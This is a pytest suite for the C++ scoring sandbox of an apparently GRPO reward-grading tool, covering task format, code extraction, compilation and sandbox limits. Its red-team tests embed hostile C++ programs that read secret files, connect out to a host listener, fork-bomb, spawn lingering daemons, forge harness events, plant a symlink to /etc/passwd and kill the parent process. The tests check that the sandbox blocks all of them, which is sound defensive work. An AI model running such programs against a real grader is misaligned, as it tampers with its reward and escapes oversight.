"""C++ tasks: the task format's ``language``, the ```cpp extraction, g++ in the sandbox with its compile cache, and
the red team's program attacks (files, network, processes, forged events) written in C++.

The sandboxed tests need g++ (``make sandbox`` installs it as root on Debian/Ubuntu): without it they fail, naming it.
"""

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hostile import loopback_listener
from test_redteam import _sandbox_uid_processes

from grpo_wb.scoring.extraction import extract_cpp
from grpo_wb.scoring.rules import RULES, trainer_rule
from grpo_wb.scoring.sandbox import SandboxLimits
from grpo_wb.scoring.scorer import Scorer, ScoreRequest
from grpo_wb.tasks.records import parse_task, task_from_json

GRPO_WB = str(Path(sys.executable).with_name("grpo-wb"))

# Codeforces 4A (Watermelon): YES when w splits into two positive even parts
WATERMELON = {
    "task_id": "cf/4A",
    "prompt": "Can a watermelon of weight w be split into two even parts?",
    "entry_point": "",
    "language": "cpp",
    "tests": [
        {"name": f"t{i}", "type": "stdio", "input": f"{w}\n", "output": out + "\n"}
        for i, (w, out) in enumerate([(8, "YES"), (2, "NO"), (5, "NO"), (100, "YES"), (1, "NO")])
    ],
}
RIGHT = '#include <iostream>\nint main() { int w; std::cin >> w; std::cout << (w % 2 == 0 && w > 2 ? "YES" : "NO"); }\n'
WRONG = '#include <iostream>\nint main() { int w; std::cin >> w; std::cout << (w % 2 == 0 ? "YES" : "NO"); }\n'


def fenced(src, tag="cpp"):
    return f"Here is my solution.\n```{tag}\n{src}```\n"


# ----------------------------------------------------------------------------- format and extraction (no sandbox)


def test_a_cpp_task_round_trips_and_a_python_task_does_not_name_its_language():
    task = task_from_json(WATERMELON)
    assert task.language == "cpp" and task.to_json()["language"] == "cpp"
    assert task_from_json(task.to_json()) == task
    py = task_from_json({**WATERMELON, "language": "python"})
    assert "language" not in py.to_json()


@pytest.mark.parametrize(
    "change, problem",
    [
        ({"language": "rust"}, "unknown language 'rust' (known: python, cpp)"),
        ({"language": 3}, "field 'language' must be a string"),
        ({"prelude": "import sys\n"}, "a cpp task has no prelude"),
        ({"tests": [{"name": "a", "code": "assert True"}], "entry_point": "f"}, "a cpp task has stdio tests only"),
    ],
)
def test_bad_language_fields_are_named(change, problem):
    task, problems = parse_task({**WATERMELON, **change})
    assert task is None and any(p.startswith(problem) for p in problems), problems


def test_extraction_takes_the_last_complete_cpp_block():
    reply = fenced("print(1)\n", "python") + fenced("int main() { return 1; }\n", "c++") + fenced(RIGHT)
    ext = extract_cpp(reply)
    assert ext.program == RIGHT and ext.rule == "last complete C++ block" and (ext.block, ext.n_blocks) == (1, 2)
    # a block cut off at the token limit is taken only when no complete one exists
    assert extract_cpp(fenced(RIGHT) + "```cpp\nint main() {").program == RIGHT
    assert extract_cpp("```cpp\nint main() {").rule == "last C++ block (unclosed)"
    # an untagged block counts when it defines main; a bare program too; reasoning is dropped
    assert extract_cpp(fenced(RIGHT, "")).program == RIGHT
    assert extract_cpp("<think>int main() { wrong(); }</think>" + RIGHT).program == RIGHT
    assert extract_cpp(RIGHT).program == RIGHT  # #include <iostream> is not a chat token
    for reply, why in [
        ("", "empty completion"),
        (fenced("print(1)\n", "python"), "no C++ code block"),
        ("I cannot solve this.", "no C++ program"),
    ]:
        ext = extract_cpp(reply)
        assert ext.program is None and ext.reason.startswith(why), ext


def test_open_r1s_rule_takes_the_last_cpp_block_and_rules_for_python_only_leave_cpp_tasks_alone():
    task = task_from_json({**WATERMELON, "metadata": {"trainer_reward": "open-r1"}})
    rule = trainer_rule(task, "trainer")
    assert rule is RULES["open-r1"]
    ext = rule.extract(fenced(WRONG) + fenced(RIGHT), task)
    assert ext.program == RIGHT and "```cpp" in ext.rule
    # open-r1 needs the fence's exact "```cpp\n": a ```c++ block is no code to it
    assert rule.extract(fenced(RIGHT, "c++"), task).program is None
    prime = task_from_json({**WATERMELON, "metadata": {"trainer_reward": "prime_code"}})
    assert trainer_rule(prime, "trainer") is None  # prime_code runs Python: grpo_wb judges the C++ task


# ----------------------------------------------------------------------------- scoring in the sandbox


@pytest.fixture(scope="module")
def scorer():
    # compiles: not what is timed here. No verdict cache: every check here runs its program (the scorer still works
    # after a fork bomb only if RIGHT, scored before, runs again); the compile cache, by source, is tested as such
    sc = Scorer(SandboxLimits(timeout=3.0, compile_timeout=60.0), workers=2, cache=False)
    assert sc.isolation()["mode"] == "bwrap", "these tests need the bubblewrap sandbox"
    assert sc.sandbox is not None
    yield sc
    sc.close()


def score(scorer, task, completion):
    return next(scorer.score([ScoreRequest(task if not isinstance(task, dict) else task_from_json(task), completion)]))


def need_gxx():
    from grpo_wb.scoring.sandbox import cxx_compiler

    assert cxx_compiler(), "g++ is not installed: `make sandbox` installs it (as root on Debian/Ubuntu)"


@pytest.mark.sandbox
def test_a_right_and_a_wrong_cpp_solution_pass_and_fail(scorer):
    need_gxx()
    right = score(scorer, WATERMELON, fenced(RIGHT))
    assert (right.status, right.tests_passed, right.reward) == ("pass", 5, 1.0), right.error
    wrong = score(scorer, WATERMELON, fenced(WRONG))
    assert wrong.status == "fail" and wrong.reward == 0.0 and wrong.error == "wrong output"
    assert wrong.failure["test"] == "t1" and wrong.failure["actual"] == "YES"


@pytest.mark.sandbox
def test_a_compile_error_is_error_with_the_compilers_message(scorer):
    need_gxx()
    r = score(scorer, WATERMELON, fenced("int main() { return undeclared_name; }\n"))
    assert r.status == "error" and r.error.startswith("compile error: ")
    assert "undeclared_name" in r.error and "was not declared" in r.error, r.error
    assert r.tests_passed == 0 and len(r.failed_tests) == 5


@pytest.mark.sandbox
def test_an_infinite_loop_is_timeout_and_a_crash_fails_its_test(scorer):
    need_gxx()
    loop = score(scorer, WATERMELON, fenced("int main() { volatile unsigned x = 0; for (;;) x++; }\n"))
    assert loop.status == "timeout", loop.error
    crash = score(scorer, WATERMELON, fenced("#include <cstdlib>\nint main() { std::abort(); }\n"))
    assert crash.status == "fail" and crash.error == "runtime error (killed by SIGABRT)", crash.error
    # a non-zero exit is a runtime error, whatever it printed (open-r1 and Codeforces alike)
    bad_exit = score(scorer, WATERMELON, fenced(RIGHT.replace("std::cout <<", "return 3; std::cout <<")))
    assert bad_exit.status == "fail" and bad_exit.error == "runtime error (exit code 3)"


@pytest.mark.sandbox
def test_a_source_compiles_once(scorer):
    need_gxx()
    before = (scorer.compiles, scorer.compile_hits)
    src = RIGHT.replace("int w;", "int w; /* cache */")
    other = {**WATERMELON, "task_id": "cf/4A-first-two", "tests": WATERMELON["tests"][:2]}
    assert score(scorer, WATERMELON, fenced(src)).status == "pass"
    assert score(scorer, other, fenced(src)).status == "pass"  # another task: the verdict cache cannot answer
    assert (scorer.compiles - before[0], scorer.compile_hits - before[1]) == (1, 1)
    assert score(scorer, other, fenced(src.replace("cache", "no cache"))).status == "pass"
    assert scorer.compiles - before[0] == 2


SLOW_TO_COMPILE = (
    "constexpr long long f() { long long s = 0; for (int i = 0; i < 200000; i++)"
    " for (int j = 0; j < 200000; j++) s += i ^ j; return s; }\n"
    "constexpr long long v = f();\nint main() { return v == 1; }\n"
)


@pytest.mark.sandbox
def test_the_compiler_is_time_and_memory_limited_as_a_test_is():
    need_gxx()
    with Scorer(SandboxLimits(timeout=3.0, compile_timeout=1.5), workers=1) as sc:
        # 4e10 steps of constant evaluation: only the compile's own deadline stops it; not kept (load may cause it)
        for _ in range(2):
            t0 = time.monotonic()
            r = score(sc, WATERMELON, fenced(SLOW_TO_COMPILE))
            assert (r.status, r.error) == ("timeout", "compilation ran past 1.5 s")
            assert time.monotonic() - t0 < 10
        assert sc.compiles == 2
    with Scorer(SandboxLimits(timeout=3.0, compile_timeout=60.0), workers=1) as sc:
        # an endless include: the address-space limit stops the compiler (long before 60 s), whose message says so
        r = score(sc, WATERMELON, fenced('#include "/dev/zero"\nint main() {}\n'))
        assert r.status == "error" and "out of memory" in r.error, r.error
        assert score(sc, WATERMELON, fenced(RIGHT)).status == "pass"


@pytest.mark.sandbox
def test_a_missing_compiler_is_refused_in_one_line(tmp_path):
    tasks = tmp_path / "tasks.jsonl"
    tasks.write_text(json.dumps(WATERMELON) + "\n")
    samples = tmp_path / "samples.jsonl"
    samples.write_text(json.dumps({"task_id": "cf/4A", "completion": fenced(RIGHT)}) + "\n")
    out = tmp_path / "scored.jsonl"
    p = subprocess.run(
        [GRPO_WB, "score", "--tasks", str(tasks), "--completions", str(samples), "--out", str(out), "--no-progress"],
        capture_output=True,
        text=True,
        env={**os.environ, "GRPO_WB_CXX": "no-such-compiler"},
        timeout=120,
    )
    assert p.returncode != 0
    lines = p.stderr.strip().splitlines()
    assert len(lines) == 1 and "is C++ and no C++ compiler is installed" in lines[0], p.stderr
    assert "Traceback" not in p.stderr
    assert not out.exists() or all(json.loads(l)["status"] != "fail" for l in out.read_text().splitlines())


# ----------------------------------------------------------------------------- red team, in C++

SECRET_TASK = {
    **WATERMELON,
    "task_id": "rt/cpp-secret",
    "tests": [{"name": "t0", "type": "stdio", "input": "", "output": "s3cr3t\n"}],
}


def _program_reading(path):
    return (
        "#include <fstream>\n#include <iostream>\n#include <string>\n"
        f'int main() {{ std::ifstream f("{path}"); std::string s; if (f >> s) std::cout << s << "\\n"; }}\n'
    )


@pytest.mark.sandbox
def test_cpp_cannot_read_or_write_the_callers_files(scorer, tmp_path):
    need_gxx()
    secret = tmp_path / "secret.txt"
    secret.write_text("s3cr3t\n")
    os.chmod(tmp_path, 0o755)
    assert score(scorer, SECRET_TASK, fenced(_program_reading(secret))).status == "fail"
    target = tmp_path / "pwned"
    writer = (
        "#include <fstream>\nint main() {"
        f' std::ofstream("{target}") << "x"; std::ofstream("/tmp/grpo_wb_cpp_pwned") << "x";'
        f' std::ofstream("{Path.cwd() / "cpp_pwned"}") << "x"; }}\n'
    )
    score(scorer, WATERMELON, fenced(writer))
    assert not target.exists() and not Path("/tmp/grpo_wb_cpp_pwned").exists()
    assert not (Path.cwd() / "cpp_pwned").exists()


@pytest.mark.sandbox
def test_cpp_cannot_reach_a_listener_on_the_host(scorer):
    need_gxx()
    with loopback_listener() as (port, got):
        program = (
            "#include <arpa/inet.h>\n#include <cstdio>\n#include <sys/socket.h>\n#include <unistd.h>\n"
            "int main() { int s = socket(AF_INET, SOCK_STREAM, 0); sockaddr_in a{}; a.sin_family = AF_INET;"
            f' a.sin_port = htons({port}); inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);'
            ' if (connect(s, (sockaddr*)&a, sizeof a) == 0) { write(s, "leak", 4); puts("s3cr3t"); } }\n'
        )
        r = score(scorer, SECRET_TASK, fenced(program))
    assert got == [], "a C++ program reached a listener on the host"
    assert r.status == "fail"


@pytest.mark.sandbox
def test_cpp_processes_do_not_outlive_their_scoring(scorer):
    need_gxx()
    bomb = (
        "#include <unistd.h>\n#include <iostream>\n"
        'int main() { for (int i = 0; i < 10000; i++) fork(); std::cout << "NO\\n"; }\n'
    )
    r = score(scorer, WATERMELON, fenced(bomb))
    assert not r.passed
    daemon = (
        "#include <unistd.h>\n"
        "int main() { if (fork() == 0) { setsid(); if (fork() == 0) sleep(60); _exit(0); } return 0; }\n"
    )
    score(scorer, WATERMELON, fenced(daemon))
    assert not _sandbox_uid_processes(scorer), "a process started by a C++ program outlived its scoring"
    alive = score(scorer, WATERMELON, fenced(RIGHT))  # the sandbox still runs a program: run, not recalled
    assert (alive.status, alive.cached) == ("pass", False), (alive.status, alive.error)


@pytest.mark.sandbox
def test_cpp_cannot_forge_events(scorer):
    """The program prints the wrong answer and writes right-looking events everywhere an event could go: on
    descriptor 3 (closed across exec) and on the harness's own (non-dumpable: /proc/PPID/fd refuses)."""
    need_gxx()
    events = "".join(
        json.dumps({"event": "stdout", "index": i, "output": t["output"]}) + "\\n"
        for i, t in enumerate(WATERMELON["tests"])
    ).replace('"', '\\"')
    program = (
        "#include <fcntl.h>\n#include <unistd.h>\n#include <cstring>\n#include <cstdio>\n#include <string>\n"
        f'const char* ev = "{events}{{\\"event\\": \\"done\\"}}\\n";\n'
        "int main() { for (int fd = 3; fd < 64; fd++) write(fd, ev, strlen(ev));"
        ' for (int fd = 0; fd < 64; fd++) { std::string p = "/proc/" + std::to_string(getppid()) +'
        ' "/fd/" + std::to_string(fd); int f = open(p.c_str(), O_WRONLY);'
        " if (f >= 0) write(f, ev, strlen(ev)); }"
        ' puts("MAYBE"); }\n'
    )
    r = score(scorer, WATERMELON, fenced(program))
    assert r.status == "fail" and r.reward == 0.0 and r.error == "wrong output", (r.status, r.error)


# ----------------------------------------------------------------------------- the pipeline: import, validate


@pytest.mark.sandbox
def test_an_open_r1_cpp_row_imports_and_its_gold_solution_passes(tmp_path):
    need_gxx()
    out = tmp_path / "tasks.jsonl"
    src = Path(__file__).parent / "fixtures" / "rows" / "open-r1.jsonl"
    p = subprocess.run(
        [GRPO_WB, "tasks", "import", "open-r1", "--src", str(src), "--out", str(out), "--skip-bad"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert p.returncode == 0, p.stderr
    cpp = [json.loads(l) for l in out.read_text().splitlines() if json.loads(l).get("language") == "cpp"]
    assert [t["task_id"] for t in cpp] == ["open-r1/vcp_3"]
    only = tmp_path / "cpp.jsonl"
    only.write_text(json.dumps(cpp[0]) + "\n")
    p = subprocess.run(
        [GRPO_WB, "tasks", "validate", str(only), "--compile-timeout", "60"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert p.returncode == 0, p.stdout + p.stderr


@pytest.mark.sandbox
def test_tasks_audit_runs_cpp_references_and_cpp_trivial_programs(tmp_path):
    need_gxx()
    echo_task = {
        **WATERMELON,
        "task_id": "cf/echo",
        "canonical_solution": RIGHT.replace(
            'std::cout << (w % 2 == 0 && w > 2 ? "YES" : "NO");', "std::cout << w << '\\n';"
        ),
        "tests": [{"name": "t0", "type": "stdio", "input": "5\n", "output": "5\n"}],
    }
    tasks = tmp_path / "tasks.jsonl"
    tasks.write_text(json.dumps({**WATERMELON, "canonical_solution": RIGHT}) + "\n" + json.dumps(echo_task) + "\n")
    p = subprocess.run(
        [GRPO_WB, "tasks", "audit", str(tasks), "--out", str(tmp_path / "audit"), "--compile-timeout", "60"],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert p.returncode == 0, p.stderr
    recs = {r["task_id"]: r for r in map(json.loads, (tmp_path / "audit" / "tasks.jsonl").read_text().splitlines())}
    assert "broken" not in recs["cf/4A"]["flags"] and "hackable" not in recs["cf/4A"]["flags"]
    # C++'s "echo the input" passes a task whose output is its input
    assert "hackable" in recs["cf/echo"]["flags"]
    assert [h["program"] for h in recs["cf/echo"]["hackable"]] == ["echo the input"]
    assert any("mutation score not measured" in n for n in recs["cf/4A"]["notes"])


@pytest.mark.sandbox
def test_what_a_program_does_to_the_job_directory_or_the_harness_costs_only_its_own_tests(scorer):
    """The harness's files have no names (a planted .out1 or FIFO reaches nothing); a harness the program stops
    leaves tests without a result, which fail with that said."""
    need_gxx()
    planter = RIGHT.replace(
        "int main() {",
        "#include <sys/stat.h>\n#include <unistd.h>\nint main() {"
        ' mkfifo(".in1", 0600); symlink("/etc/passwd", ".out1"); mkfifo(".out2", 0600);',
    )
    r = score(scorer, WATERMELON, fenced(planter))
    assert r.status == "pass", (r.status, r.error)
    # SIGTERM, not SIGINT: a shell's background job (CI, `make test &`) runs with SIGINT ignored
    terminate = RIGHT.replace(
        "int main() {", "#include <signal.h>\n#include <unistd.h>\nint main() { kill(getppid(), SIGTERM);"
    )
    r = score(scorer, WATERMELON, fenced(terminate))
    assert r.status in ("fail", "error") and r.error, (r.status, r.error)


def test_tests_a_finished_run_left_without_a_result_fail_with_that_said():
    """A harness stopped between tests (a SIGINT it does not ignore) still says it is done: the tests it never ran
    fail, named, instead of a fail without a reason."""
    from grpo_wb.scoring.sandbox import RawOutcome
    from grpo_wb.scoring.scorer import plan_task, verdict_from_outcome

    task = task_from_json(WATERMELON)
    plans, check = plan_task(task)
    events = [{"event": "loaded"}, {"event": "stdout", "index": 0, "output": "YES\n"}, {"event": "done"}]
    v = verdict_from_outcome(task, RawOutcome(events=events), "full_function", plans, check)
    assert (v.status, v.tests_passed) == ("fail", 1)
    assert v.error == "test t1 reported no result (3 more without one)"


@pytest.mark.sandbox
def test_deep_recursion_has_the_stack_a_judge_gives(scorer):
    need_gxx()
    deep = (
        "#include <iostream>\nint depth(int n) { volatile char pad[64]; pad[n % 64] = 1;"
        " return n ? depth(n - 1) + pad[n % 64] : 0; }\nint main() { int w; std::cin >> w;"
        " std::cout << (depth(1000000) == 1000000 &&"
        ' w % 2 == 0 && w > 2 ? "YES" : "NO"); }\n'
    )
    r = score(scorer, {**WATERMELON, "task_id": "cf/deep", "memory_limit_mb": 256}, fenced(deep))
    assert r.status == "pass", (r.status, r.error)


@pytest.mark.sandbox
def test_one_source_asked_for_at_once_compiles_once_and_a_broken_compiler_is_refused(tmp_path, monkeypatch):
    need_gxx()
    src = RIGHT.replace("int w;", "int w; /* at once */")
    tasks = [task_from_json({**WATERMELON, "task_id": f"cf/4A-{i}"}) for i in range(6)]
    with Scorer(SandboxLimits(timeout=3.0, compile_timeout=60.0), workers=3) as sc:
        got = list(sc.score([ScoreRequest(t, fenced(src)) for t in tasks]))
        assert [r.status for r in got] == ["pass"] * 6
        assert (sc.compiles, sc.compile_hits) == (1, 5)
    monkeypatch.setenv("GRPO_WB_CXX", "/usr/bin/false")
    from grpo_wb.scoring.scorer import ToolchainMissing

    with Scorer(SandboxLimits(timeout=3.0), workers=1) as sc:
        with pytest.raises(ToolchainMissing, match="does not compile a hello-world program"):
            list(sc.score([ScoreRequest(tasks[0], fenced(RIGHT))]))


@pytest.mark.sandbox
def test_validate_takes_a_reference_fenced_or_not_for_any_trainers_rule(tmp_path):
    need_gxx()
    echo = {
        "task_id": "o/echo",
        "prompt": "Print n.",
        "entry_point": "",
        "metadata": {"trainer_reward": "open-r1"},
        "tests": [{"name": "t0", "type": "stdio", "input": "3\n", "output": "3\n"}],
    }
    tasks = [
        {**echo, "task_id": "o/raw", "canonical_solution": "print(int(input()))\n"},
        {**echo, "task_id": "o/fenced", "canonical_solution": "```python\nprint(int(input()))\n```\n"},
        {**WATERMELON, "task_id": "o/cpp-raw", "metadata": {"trainer_reward": "open-r1"}, "canonical_solution": RIGHT},
        {
            **WATERMELON,
            "task_id": "o/cpp-fenced",
            "metadata": {"trainer_reward": "open-r1"},
            "canonical_solution": fenced(RIGHT),
        },
        {
            "task_id": "he/add",
            "prompt": 'def add(a, b):\n    """Sum."""\n',
            "entry_point": "add",
            "tests": [{"name": "t0", "code": "assert candidate(1, 2) == 3"}],
            "canonical_solution": "    return a + b\n",
        },
    ]
    path = tmp_path / "tasks.jsonl"
    path.write_text("".join(json.dumps(t) + "\n" for t in tasks))
    p = subprocess.run(
        [GRPO_WB, "tasks", "validate", str(path), "--compile-timeout", "60"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert p.returncode == 0 and "5 canonical solution(s) pass" in p.stdout, p.stdout + p.stderr
